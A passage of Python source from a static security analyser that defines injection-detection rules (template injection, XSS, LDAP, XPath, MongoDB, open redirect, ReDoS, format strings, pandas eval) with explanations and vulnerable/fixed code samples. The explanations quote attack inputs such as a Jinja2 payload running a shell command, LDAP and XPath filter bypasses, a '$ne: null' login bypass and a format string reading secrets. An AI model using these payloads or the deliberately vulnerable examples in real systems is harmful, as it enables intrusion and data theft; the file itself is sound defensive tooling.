    command, name = _command_sink(ctx, site)
    if command is None or name not in _PROCESS_CALLS or "shell" in site.keywords:
        return
    items = _list_value(ctx, command)
    if items is None:
        return
    elements = [c for c in items.named_children if c.type != "comment"]
    if not elements or find_source(ctx, elements[0], UNTRUSTED) is not None:
        return  # the program itself comes from the request: a web shell (GH454)
    program = ctx.const(elements[0])
    if not isinstance(program, str) or program.rsplit("/", 1)[-1] not in _OPTION_RISKS:
        return
    for element in elements[1:]:
        if ctx.const(element) == "--":
            return
        if element.type == "list_splat":
            continue
        template = template_of(ctx, element)
        if template is not None and template.holes and template.holes[0].prefix:
            continue  # `f"--branch={name}"`: a fixed prefix keeps it from being an option
        source = find_source(ctx, element, (REQUEST,))
        if source is not None:
            yield Hit.at(
                site.node,
                related=source.related,
                program=program,
                source=source.text,
                line=str(source.line),
            )
            return


# --------------------------------------------------------------------------------------------
# Templates and HTML

GH510 = RuleMeta(
    code="GH510",
    name="template-from-untrusted-input",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(1336, 94),
    message=(
        "`{sink}()` compiles a template whose source contains {kind} from `{source}` on line {line}"
    ),
    why=(
        "Template engines run the expressions in a template's source: in Jinja2, "
        "`{{ cycler.__init__.__globals__.os.popen('id').read() }}` runs a shell command, and "
        "Mako and Tornado templates embed Python directly. When request or user data becomes "
        "part of the template *source* (rather than a variable passed to `render`), the "
        "sender writes code that the server runs: server-side template injection. Keep the "
        "template constant and pass the data as context variables, which the engine escapes."
    ),
    example=(
        "@app.route('/hello')\n"
        "def hello():\n"
        "    name = request.args.get('name', 'world')\n"
        "    return render_template_string(f'<h1>Hello {name}!</h1>')"
    ),
    fixed_example=(
        "@app.route('/hello')\n"
        "def hello():\n"
        "    name = request.args.get('name', 'world')\n"
        "    return render_template_string('<h1>Hello {{ name }}!</h1>', name=name)"
    ),
)

_TEMPLATE_NAMES = words(
    """
    jinja2.Template jinja2.environment.Template flask.render_template_string
    flask.templating.render_template_string mako.template.Template django.template.Template
    django.template.base.Template tornado.template.Template chameleon.PageTemplate
    chameleon.zpt.template.PageTemplate jinja2.Environment.from_string
    """
)


def _template_untrusted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if site.name not in _TEMPLATE_NAMES and (
        site.method != "from_string" or not imports_module(ctx, "jinja2", "flask")
    ):
        return
    source_node = site.arg(0, "source") or site.arg(0, "text") or site.keywords.get("template")
    if source_node is None:
        return
    source = find_source(ctx, source_node, UNTRUSTED)
    if source is None:
        return
    sink = (site.name or site.method or "Template").rsplit(".", 1)[-1]
    yield Hit.at(
        site.node,
        related=source.related,
        sink=sink,
        kind=source.kind,
        source=source.text,
        line=str(source.line),
    )


GH511 = RuleMeta(
    code="GH511",
    name="template-string-formatted",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(1336, 94),
    message=(
        "`render_template_string()` renders a template built with {how} on line {line}: "
        "values spliced into the template source are run as template code"
    ),
    why=(
        "`render_template_string(f'...{value}...')` makes `value` part of the Jinja2 source, "
        "so a value that contains `{{ ... }}` is evaluated by the template engine with access "
        "to Python objects, and markup in it is not escaped either. In a view, such values "
        "nearly always come from the request, a database row or a form. Pass values as "
        "keyword arguments and reference them as `{{ name }}` in a constant template."
    ),
    example=(
        "def greeting(user):\n"
        "    return render_template_string(f'<p>Welcome back, {user.display_name}</p>')"
    ),
    fixed_example=(
        "def greeting(user):\n"
        "    return render_template_string('<p>Welcome back, {{ name }}</p>',\n"
        "                                  name=user.display_name)"
    ),
)


def _template_formatted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    source_node = site.arg(0, "source")
    if source_node is None:
        return
    taint = ctx.taint(source_node)
    if taint is None or FORMAT not in taint.labels or taint.has(*UNTRUSTED):
        return
    built = built_template(ctx, source_node)
    if built is None or all(_safe_markup_hole(ctx, h) for h in built[1].holes):
        return
    origin, template = built
    yield Hit.at(
        site.node,
        related=(related_at(origin, "template source built here"),),
        how=template.how,
        line=str(line_of(ctx, origin)),
    )


GH512 = RuleMeta(
    code="GH512",
    name="markup-marked-safe-from-data",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(79,),
    message=(
        "`{sink}()` marks HTML built with {how} as safe: `{hole}` is not escaped "
        "(use `format_html()` or `Markup(...).format()`)"
    ),
    why=(
        "`mark_safe()` and `Markup()` tell the template engine that a string is already safe "
        "HTML, turning auto-escaping off for it. When the string was built by formatting "
        "values into markup, any `<script>` or attribute-breaking quote in those values goes "
        "to the browser as code: stored or reflected cross-site scripting. Django's "
        "`format_html()` and MarkupSafe's `Markup('<b>{}</b>').format(value)` escape the values "
        "while keeping the markup."
    ),
    example=(
        "def user_badge(user):\n"
        "    return mark_safe(f'<span class=\"badge\">{user.nickname}</span>')"
    ),
    fixed_example=(
        "def user_badge(user):\n"
        "    return format_html('<span class=\"badge\">{}</span>', user.nickname)"
    ),
)

_MARKUP_NAMES = words(
    """
    django.utils.safestring.mark_safe django.utils.safestring.SafeString
    django.utils.safestring.SafeText markupsafe.Markup flask.Markup jinja2.Markup
    jinja2.utils.Markup
    """
)
_ESCAPING_CALL = re.compile(
    r"(?:^|\.)(?:\w*escape\w*|format_html\w*|json_script|urlencode|quote\w*|int|len|float|"
    r"static|reverse|url_for|mark_safe|Markup|render_to_string|render_template|\w*_html)$"
)


def _safe_markup_hole(ctx: Context, hole: Hole) -> bool:
    if hole.spec in _NUMERIC_SPECS:
        return True
    expr = hole.expr
    if expr is None:
        return False
    if constant_like(ctx, expr) or _call_matching(ctx, expr, _ESCAPING_CALL):
        return True
    taint = ctx.taint(expr)
    if taint is None and expr.type == "identifier":
        return _call_matching(ctx, last_assignment(ctx, expr), _ESCAPING_CALL)
    return False


def _call_matching(ctx: Context, node: Node | None, callee: re.Pattern[str]) -> bool:
    """A call whose callee, as spelled, matches `callee` (`html.escape(...)`)."""
    if node is None or node.type != "call":
        return False
    function = node.child_by_field_name("function")
    return function is not None and callee.search(ctx.text(function)) is not None


def _markup_formatted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    value = site.arg(0, "s") or site.arg(0, "base")
    if value is None:
        return
    sink = (site.name or "mark_safe").rsplit(".", 1)[-1]
    built = built_template(ctx, value)
    if built is None:
        taint = ctx.taint(value)
        if taint is not None and REQUEST in taint.labels and FORMAT not in taint.labels:
            # the request value itself is declared safe HTML: no template to inspect
            yield Hit.at(site.node, sink=sink, how="request data", hole=describe(ctx, value))
        return
    template = built[1]
    if "<" not in template.text:
        return
    for hole in template.holes:
        if not _safe_markup_hole(ctx, hole):
            yield Hit.at(
                site.node,
                sink=sink,
                how=template.how,
                hole=describe(ctx, hole.expr) if hole.expr is not None else "a value",
            )
            return


GH513 = RuleMeta(
    code="GH513",
    name="html-response-from-request",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(79,),
    message=(
        "the response body contains request data from `{source}` on line {line} without HTML "
        "escaping (reflected XSS)"
    ),
    why=(
        "A response built from request data and served as HTML reflects whatever the request "
        "contained back to the browser. A link such as `/hello?name=<script>...</script>` then "
        "runs the attacker's script in the victim's session, with access to their cookies and "
        "to every action they can take. Render through a template with auto-escaping, or escape "
        "the value with `html.escape()` / `markupsafe.escape()`, or return JSON."
    ),
    example=(
        "@app.route('/hello')\n"
        "def hello():\n"
        "    name = request.args.get('name', '')\n"
        "    return make_response(f'<h1>Hello {name}</h1>')"
    ),
    fixed_example=(
        "@app.route('/hello')\n"
        "def hello():\n"
        "    name = request.args.get('name', '')\n"
        "    return make_response(f'<h1>Hello {escape(name)}</h1>')"
    ),
)

_RESPONSE_NAMES = words(
    """
    flask.make_response flask.Response flask.wrappers.Response werkzeug.wrappers.Response
    werkzeug.Response django.http.HttpResponse django.http.response.HttpResponse
    starlette.responses.HTMLResponse fastapi.responses.HTMLResponse fastapi.responses.Response
    starlette.responses.Response bottle.HTTPResponse
    """
)
_NOT_HTML = re.compile(r"json|text/plain|text/csv|octet|image/|application/(?!xhtml)")


def _html_response(ctx: Context, site: CallSite) -> Iterator[Hit]:
    body = site.arg(0, "content") or site.arg(0, "response") or site.keywords.get("body")
    if body is None or (body.type == "call" and ctx.text(body).startswith(("json", "render"))):
        return
    for keyword in ("mimetype", "content_type", "media_type"):
        value = site.keywords.get(keyword)
        if value is not None and _NOT_HTML.search(ctx.text(value)):
            return
    source = find_source(ctx, body, (REQUEST,))
    if source is None:
        return
    yield Hit.at(site.node, related=source.related, source=source.text, line=str(source.line))


GH514 = RuleMeta(
    code="GH514",
    name="html-returned-from-request",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(79,),
    message=(
        "the view returns HTML built from request data (`{source}` on line {line}) without "
        "escaping (reflected XSS)"
    ),
    why=(
        "A Flask or FastAPI view that returns a string serves it as `text/html`. When the "
        "string is an f-string with request data in it, a crafted link makes the page run the "
        "attacker's script in the visitor's browser. Render a template (Jinja2 escapes "
        "variables) or escape the value with `markupsafe.escape()` before formatting it."
    ),
    example=(
        "@app.route('/greet')\n"
        "def greet():\n"
        "    return f\"<p>Hello, {request.args.get('name')}</p>\""
    ),
    fixed_example=(
        "@app.route('/greet')\n"
        "def greet():\n"
        "    return f\"<p>Hello, {escape(request.args.get('name', ''))}</p>\""
    ),
)

_RETURN_HTML = re.compile(rb"return\s+[fF]?[rR]?[\"'][^\n]*?<[a-zA-Z/]")


def _html_return(ctx: Context, match: TextMatch) -> Iterator[Hit]:
    node = ctx.node_at(match.start, match.start + 6)
    if node.type != "return_statement" or not node.named_children:
        return
    value = node.named_children[0]
    template = template_of(ctx, value)
    if template is None or "<" not in template.text:
        return
    for hole in template.holes:
        if hole.expr is None or _safe_markup_hole(ctx, hole):
            continue
        source = find_source(ctx, hole.expr, (REQUEST,))
        if source is not None:
            yield Hit.at(node, related=source.related, source=source.text, line=str(source.line))
            return


# --------------------------------------------------------------------------------------------
# Query languages: LDAP, XPath, MongoDB; expression languages: regex, format strings, pandas

GH515 = RuleMeta(
    code="GH515",
    name="ldap-filter-injection",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(90,),
    message="LDAP search filter built with {how} on line {line} from `{hole}` without escaping",
    why=(
        "LDAP filters have their own syntax: `*`, `(`, `)`, `&`, `|` and `\\` change their "
        "meaning. A user name such as `*)(uid=*))(|(uid=*` turns a lookup of one user into a "
        "match of every entry, which bypasses login checks built on `search` and leaks the "
        "directory. Escape every value with `ldap3.utils.conv.escape_filter_chars()` or "
        "`ldap.filter.escape_filter_chars()` (or build the filter with "
        "`ldap.filter.filter_format()`)."
    ),
    example=(
        "def find_user(conn, username):\n"
        "    conn.search('dc=example,dc=com', f'(uid={username})', attributes=['cn'])\n"
        "    return conn.entries"
    ),
    fixed_example=(
        "from ldap3.utils.conv import escape_filter_chars\n\n"
        "def find_user(conn, username):\n"
        "    conn.search('dc=example,dc=com', f'(uid={escape_filter_chars(username)})',\n"
        "                attributes=['cn'])\n"
        "    return conn.entries"
    ),
)

_LDAP_FILTER_ARGS = {
    "search": (1, "search_filter"),
    "search_s": (2, "filterstr"),
    "search_st": (2, "filterstr"),
    "search_ext": (2, "filterstr"),
    "search_ext_s": (2, "filterstr"),
    "paged_search": (1, "search_filter"),
}
_LDAP_SAFE = re.compile(r"(?:^|\.)(?:escape_filter_chars|filter_format|escape\w*)$")


def _ldap_filter(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if not imports_module(ctx, "ldap", "ldap3"):
        return
    index, keyword = _LDAP_FILTER_ARGS[site.method or ""]
    value = site.arg(index, keyword)
    if site.method == "paged_search" and value is None:
        value = site.arg(1, "search_filter")
    if value is None:
        return
    built = built_template(ctx, value)
    if built is None:
        taint = ctx.taint(value)
        if taint is None or FORMAT in taint.labels:
            return
        source = find_source(ctx, value, UNTRUSTED)
        if source is None:
            return
        yield Hit.at(
            site.node,
            related=source.related,
            how="untrusted input",
            line=str(source.line),
            hole=source.text,
        )
        return
    template = built[1]
    if "=" not in template.text:
        return
    for hole in template.holes:
        expr = hole.expr
        if expr is None or constant_like(ctx, expr) or _call_matching(ctx, expr, _LDAP_SAFE):
            continue
        if not _in_filter_value(hole.prefix):
            continue
        yield Hit.at(
            site.node,
            how=template.how,
            line=str(line_of(ctx, expr)),
            hole=describe(ctx, expr),
        )
        return


def _in_filter_value(prefix: str) -> bool:
    stripped = prefix.rstrip()
    return stripped.endswith(("=", "~", ">", "<", "*"))


GH516 = RuleMeta(
    code="GH516",
    name="xpath-injection",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(643,),
    message="XPath expression built with {how} puts `{hole}` inside a predicate without escaping",
    why=(
        "Values formatted into an XPath predicate can close the quoted string and add their "
        "own conditions: `' or '1'='1` turns `//user[@name='...']` into a query that matches "
        "every user, which defeats lookups used for authentication or authorisation, and can "
        "read any part of the document. lxml supports XPath variables "
        "(`tree.xpath('//user[@name=$name]', name=value)`), which keep values out of the "
        "expression."
    ),
    example=(
        "def find_account(tree, username):\n"
        "    return tree.xpath(f\"//account[@user='{username}']\")"
    ),
    fixed_example=(
        "def find_account(tree, username):\n"
        "    return tree.xpath('//account[@user=$name]', name=username)"
    ),
)

_XPATH_METHODS = words(
    """
    xpath XPath find findall findtext iterfind ETXPath
    """
)


def _xpath(ctx: Context, site: CallSite) -> Iterator[Hit]:
    value = site.arg(0, "path") or site.arg(0, "_path")
    if value is None or ctx.const(value) is not None:
        return
    if site.method not in {"xpath", "XPath", "ETXPath"} and not imports_module(
        ctx, "lxml", "xml.etree", "defusedxml", "xml.dom"
    ):
        return  # `str.find()` and friends
    built = built_template(ctx, value)
    if built is None or "[" not in built[1].text:
        return
    template = built[1]
    for hole in template.holes:
        prefix = hole.prefix.rstrip()
        if hole.expr is None or not prefix.endswith(("='", '="', '("', "('", ", '", ', "')):
            continue
        if "[" not in prefix or constant_like(ctx, hole.expr) or hole.spec in _NUMERIC_SPECS:
            continue
        yield Hit.at(site.node, how=template.how, hole=describe(ctx, hole.expr))
        return


GH517 = RuleMeta(
    code="GH517",
    name="nosql-where-injection",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(943,),
    message="MongoDB `{operator}` runs JavaScript built from data (`{hole}`)",
    why=(
        "`$where`, `$function` and `$accumulator` run JavaScript on the database server. When "
        "the code is built from a value, the value can close the string and run its own "
        "script: `'; while(true){}; '` ties up the server and `' || '1'=='1` matches every "
        "document. Query operators (`{'name': value}`, `$eq`, `$regex` with `re.escape`) "
        "express the same conditions without running code."
    ),
    example=(
        "def find_by_owner(db, owner):\n"
        "    return list(db.items.find({'$where': f\"this.owner == '{owner}'\"}))"
    ),
    fixed_example=(
        "def find_by_owner(db, owner):\n    return list(db.items.find({'owner': owner}))"
    ),
)

_MONGO_METHODS = words(
    """
    find find_one find_one_and_update find_one_and_delete find_one_and_replace update_one
    update_many delete_one delete_many count_documents aggregate replace_one distinct watch
    """
)
_JS_OPERATORS = frozenset({"$where", "$function", "$accumulator"})


def _mongo_where(ctx: Context, site: CallSite) -> Iterator[Hit]:
    for argument in site.args[:2]:
        for pair in _pairs(argument, 0):
            key = pair.child_by_field_name("key")
            value = pair.child_by_field_name("value")
            if key is None or value is None:
                continue
            operator = ctx.const(key)
            if operator not in _JS_OPERATORS or not isinstance(operator, str):
                continue
            code = value
            if value.type == "dictionary":
                body = next(
                    (
                        p.child_by_field_name("value")
                        for p in value.named_children
                        if p.type == "pair"
                        and ctx.const(p.child_by_field_name("key") or p) == "body"
                    ),
                    None,
                )
                if body is None:
                    continue
                code = body
            if ctx.const(code) is not None:
                continue
            taint = ctx.taint(code)
            if taint is None:
                continue
            yield Hit.at(site.node, operator=operator, hole=describe(ctx, code))
            return


def _pairs(node: Node, depth: int) -> Iterator[Node]:
    if depth > 4:
        return
    if node.type == "dictionary":
        for pair in node.named_children:
            if pair.type == "pair":
                yield pair
                value = pair.child_by_field_name("value")
                if value is not None:
                    yield from _pairs(value, depth + 1)
    elif node.type == "list":
        for child in node.named_children:
            yield from _pairs(child, depth + 1)


GH518 = RuleMeta(
    code="GH518",
    name="nosql-query-from-request-json",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(943,),
    message=(
        "MongoDB `{method}()` filter takes parsed JSON from `{source}` on line {line}: objects "
        'such as `{{"$ne": null}}` become query operators'
    ),
    why=(
        "JSON request bodies can carry objects where the code expects strings. A filter such "
        "as `{'user': body['user'], 'password': body['password']}` matches any account when "
        'the password is `{"$ne": null}`, and a whole filter taken from the request lets the '
        "sender query anything. Convert each value to the expected type (`str(...)`) or "
        "validate the body with a schema before it reaches the query."
    ),
    example=(
        "@app.post('/login')\n"
        "def login():\n"
        "    body = request.get_json()\n"
        "    user = db.users.find_one({'name': body['name'], 'password': body['password']})\n"
        "    return {'ok': user is not None}"
    ),
    fixed_example=(
        "@app.post('/login')\n"
        "def login():\n"
        "    body = request.get_json()\n"
        "    user = db.users.find_one({'name': str(body['name'])})\n"
        "    ok = user is not None and check_password_hash(user['hash'], str(body['password']))\n"
        "    return {'ok': ok}"
    ),
)

_CONVERSIONS = frozenset({"str", "int", "float", "bool", "bson.ObjectId", "bson.objectid.ObjectId"})
_JSON_ORIGIN = re.compile(r"(?:\.|^)(?:json|get_json|data|get_data|body|media|stream)\b")
_MONGO_RECEIVER = re.compile(r"(?i)(?:^|[._\[])(?:db|col|coll|collection|mongo|users?|items?)")


def _mongo_request(ctx: Context, site: CallSite) -> Iterator[Hit]:
    receiver = site.receiver
    if receiver is None or not (
        imports_module(ctx, "pymongo", "motor", "flask_pymongo", "mongoengine")
        or _MONGO_RECEIVER.search(ctx.text(receiver))
    ):
        return
    query = site.arg(0, "filter")
    if query is None:
        return
    candidates = [query]
    if query.type == "dictionary":
        candidates = [
            v
            for p in query.named_children
            if p.type == "pair"
            for v in [p.child_by_field_name("value")]
            if v is not None
        ]
    for candidate in candidates:
        if candidate.type == "dictionary" or call_name(ctx, candidate) in _CONVERSIONS:
            continue
        source = find_source(ctx, candidate, (REQUEST,))
        if source is None or not _JSON_ORIGIN.search(_source_attribute(ctx, source.node)):
            continue
        yield Hit.at(
            site.node,
            related=source.related,
            method=site.method or "find",
            source=source.text,
            line=str(source.line),
        )
        return


def _source_attribute(ctx: Context, node: Node) -> str:
    if node.type == "call":
        function = node.child_by_field_name("function")
        return ctx.text(function) if function is not None else ""
    return ctx.text(node)


GH520 = RuleMeta(
    code="GH520",
    name="open-redirect",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(601,),
    message="redirect target comes from request data (`{source}` on line {line}) unchecked",
    why=(
        "Redirecting to a URL taken from the request (`?next=...`) lets anyone craft a link on "
        "your domain that lands the victim on their site: the classic phishing step after a "
        "login page, and a way to leak tokens in the URL to a third party. Accept only "
        "relative paths or known hosts: Django's `url_has_allowed_host_and_scheme()`, or a "
        "check that `urlparse(target).netloc` is empty, before redirecting."
    ),
    example=(
        "@app.route('/login', methods=['POST'])\n"
        "def login():\n"
        "    ...\n"
        "    return redirect(request.args.get('next', '/'))"
    ),
    fixed_example=(
        "@app.route('/login', methods=['POST'])\n"
        "def login():\n"
        "    ...\n"
        "    target = request.args.get('next', '/')\n"
        "    if urlparse(target).netloc or not target.startswith('/'):\n"
        "        target = '/'\n"
        "    return redirect(target)"
    ),
)

_REDIRECT_NAMES = words(
    """
    flask.redirect werkzeug.utils.redirect django.shortcuts.redirect
    django.http.HttpResponseRedirect django.http.HttpResponsePermanentRedirect
    django.http.response.HttpResponseRedirect starlette.responses.RedirectResponse
    fastapi.responses.RedirectResponse bottle.redirect aiohttp.web.HTTPFound quart.redirect
    sanic.response.redirect
    """
)
_REDIRECT_GUARD = re.compile(
    r"is_safe_url|url_has_allowed_host_and_scheme|allowed_hosts|netloc|startswith|"
    r"is_safe_redirect|safe_url|ALLOWED|url_is_safe|is_relative|urlsplit|urlparse"
)
_SELF_URL = re.compile(r"request\.(?:url|path|full_path|base_url|url_root|host_url|script_root)\b")


def _open_redirect(ctx: Context, site: CallSite) -> Iterator[Hit]:
    target = site.arg(0, "location") or site.arg(0, "redirect_to") or site.arg(0, "url")
    if target is None:
        return
    source = find_source(ctx, target, (REQUEST,))
    if source is None or _SELF_URL.search(ctx.text(source.node)):
        return
    built = built_template(ctx, target)
    if built is not None and built[1].holes and built[1].holes[0].prefix:
        return  # the request part comes after a fixed prefix: the host is not chosen by it
    if _REDIRECT_GUARD.search(scope_text_before(ctx, site.node)):
        return
    yield Hit.at(site.node, related=source.related, source=source.text, line=str(source.line))


GH525 = RuleMeta(
    code="GH525",
    name="regex-from-request",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(1333, 730),
    message="regular expression compiled from request data (`{source}` on line {line})",
    why=(
        "A pattern taken from a request is compiled and run by the server. Patterns such as "
        "`(a+)+$` backtrack exponentially, so one short request can keep a worker busy for "
        "minutes (ReDoS), and a pattern meant as literal text matches more than intended. "
        "Escape the text with `re.escape()` when it should be matched literally, or bound "
        "its length and run it with a timeout in a separate process."
    ),
    example=(
        "@app.route('/filter')\n"
        "def filter_names():\n"
        "    pattern = re.compile(request.args['q'])\n"
        "    return [n for n in NAMES if pattern.search(n)]"
    ),
    fixed_example=(
        "@app.route('/filter')\n"
        "def filter_names():\n"
        "    pattern = re.compile(re.escape(request.args['q']))\n"
        "    return [n for n in NAMES if pattern.search(n)]"
    ),
)


def _regex_request(ctx: Context, site: CallSite) -> Iterator[Hit]:
    pattern = site.arg(0, "pattern")
    if pattern is None:
        return
    source = find_source(ctx, pattern, (REQUEST,))
    if source is None:
        return
    yield Hit.at(site.node, related=source.related, source=source.text, line=str(source.line))


GH526 = RuleMeta(
    code="GH526",
    name="format-string-from-request",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(134,),
    message="`.{method}()` is called on a format string that comes from `{source}` on line {line}",
    why=(
        "`str.format()` resolves attribute and index lookups written in the format string. A "
        "format string chosen by the requester, such as `{user.__init__.__globals__[SECRET_KEY]}`, "
        "walks from any argument to module globals and reads secrets, configuration or "
        "credentials. Treat request data as a value, never as the template: use a constant "
        "format string, or `string.Template(...).safe_substitute()` which has no attribute "
        "access."
    ),
    example=(
        "@app.post('/notify')\n"
        "def notify():\n"
        "    template = request.form['template']\n"
        "    return template.format(user=current_user)"
    ),
    fixed_example=(
        "@app.post('/notify')\n"
        "def notify():\n"
        "    template = string.Template(request.form['template'])\n"
        "    return template.safe_substitute(name=current_user.name)"
    ),
)


def _format_request(ctx: Context, site: CallSite) -> Iterator[Hit]:
    receiver = site.receiver
    if receiver is None or receiver.type in {"string", "concatenated_string"}:
        return
    if site.name is not None and site.name.startswith(("string.", "logging.")):
        return
    source = find_source(ctx, receiver, (REQUEST,))
    if source is None:
        return
    yield Hit.at(
        site.node,
        related=source.related,
        method=site.method or "format",
        source=source.text,
        line=str(source.line),
    )


GH527 = RuleMeta(
    code="GH527",
    name="expression-from-request",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(95, 917),
    message=(
        "`{sink}()` evaluates an expression that contains request data from `{source}` "
        "on line {line}"
    ),
    why=(
        "`DataFrame.query()`, `DataFrame.eval()`, `pandas.eval()` and `numexpr.evaluate()` "
        "parse and evaluate an expression language; pandas' Python engine resolves names and "
        "attributes, so a requester who controls the expression can read local variables and, "
        "through attribute access, reach code execution. Filter with boolean indexing "
        "(`df[df['city'] == city]`) or pass values with `@variable` references in a constant "
        "expression."
    ),
    example=(
        "@app.get('/rows')\n"
        "def rows():\n"
        "    expr = request.args['where']\n"
        "    return df.query(expr).to_json()"
    ),
    fixed_example=(
        "@app.get('/rows')\n"
        "def rows():\n"
        "    city = request.args['city']\n"
        "    return df.query('city == @city').to_json()"
    ),
)


def _expression_request(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if site.name not in {"pandas.eval", "numexpr.evaluate"} and not (
        site.method in {"query", "eval"} and imports_module(ctx, "pandas", "polars", "modin")
    ):
        return
    expression = site.arg(0, "expr") or site.arg(0, "ex")
    if expression is None:
        return
    source = find_source(ctx, expression, (REQUEST,))
    if source is None:
        return
    sink = (site.name or site.method or "query").rsplit(".", 1)[-1]
    yield Hit.at(
        site.node, related=source.related, sink=sink, source=source.text, line=str(source.line)
    )


RULES = [
    CallRule(GH500, _check_gh500, names=_SQL_NAMES, methods=_SQL_METHODS | {"extra"}),
    CallRule(GH501, _sql_untrusted, names=_SQL_NAMES, methods=_SQL_METHODS | {"extra"}),
    CallRule(GH502, _check_gh502, names=_SQL_NAMES, methods=_SQL_METHODS | {"extra"}),
    CallRule(
        GH505,
        _command_untrusted,
        names=_SHELL_CALLS | _PROCESS_CALLS | {"os.exec*", "os.spawn*", "os.posix_spawn*"},
        methods=frozenset({"exec_command"}),
    ),
    CallRule(GH506, _command_argument, names=_PROCESS_CALLS),
    CallRule(GH510, _template_untrusted, names=_TEMPLATE_NAMES, methods=frozenset({"from_string"})),
    CallRule(
        GH511,
        _template_formatted,
        names=frozenset(
            {"flask.render_template_string", "flask.templating.render_template_string"}
        ),
    ),
    CallRule(GH512, _markup_formatted, names=_MARKUP_NAMES),
    CallRule(GH513, _html_response, names=_RESPONSE_NAMES),
    TextRule(GH514, _RETURN_HTML, _html_return),
    CallRule(GH515, _ldap_filter, methods=frozenset(_LDAP_FILTER_ARGS)),
    CallRule(GH516, _xpath, methods=_XPATH_METHODS),
    CallRule(GH517, _mongo_where, methods=_MONGO_METHODS),
    CallRule(GH518, _mongo_request, methods=_MONGO_METHODS),
    CallRule(GH520, _open_redirect, names=_REDIRECT_NAMES),
    CallRule(
        GH525,
        _regex_request,
        names=frozenset(
            f"{module}.{function}"
            for module in ("re", "regex")
            for function in (
                "compile",
                "match",
                "search",
                "fullmatch",
                "findall",
                "finditer",
                "sub",
                "subn",
                "split",
            )
        ),
    ),
    CallRule(GH526, _format_request, methods=frozenset({"format", "format_map"})),
    CallRule(
        GH527,
        _expression_request,
        names=frozenset({"pandas.eval", "numexpr.evaluate"}),
        methods=frozenset({"query", "eval"}),
    ),
]

__all__ = [
    "RULES",
    "Hole",
    "Source",
    "Template",
    "built_template",
    "call_name",
    "constant_like",
    "describe",
    "find_source",
    "imports_module",
    "is_literal_string",
    "last_assignment",
    "template_of",
    "words",
]


mentions_warmer(
    _REQUEST_READ,
    _ROUTE_PATTERN,
    *(p for p in map(_source_pattern, (REQUEST, USER)) if p is not None),
)
